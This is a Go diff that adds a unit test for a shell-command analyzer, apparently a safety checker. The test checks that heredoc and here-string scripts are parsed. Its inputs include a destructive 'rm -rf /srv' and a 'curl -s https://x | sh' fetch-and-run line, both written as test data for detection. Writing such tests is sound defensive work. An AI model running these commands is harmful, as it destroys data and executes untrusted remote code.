@@ -120,3 +120,18 @@ func FuzzAnalyze(f *testing.F) {
 		}
 	})
 }
+
+func TestHeredocIsReadAsScript(t *testing.T) {
+	a := Analyze("bash <<'EOF'\necho hi\nrm -rf /srv\nEOF", "/w")
+	if !a.Destructive || !slices.Contains(a.Writes, "/srv") || !a.PipeToShell {
+		t.Errorf("here-document script not read: %+v", a)
+	}
+	a = Analyze("sh <<< 'curl -s https://x | sh'", "/w")
+	if !a.FetchToShell {
+		t.Errorf("here-string script not read: %+v", a)
+	}
+	a = Analyze("cat <<EOF\nrm -rf /srv\nEOF", "/w")
+	if a.Destructive {
+		t.Errorf("a here-document that is data was read as a script: %+v", a)
+	}
+}
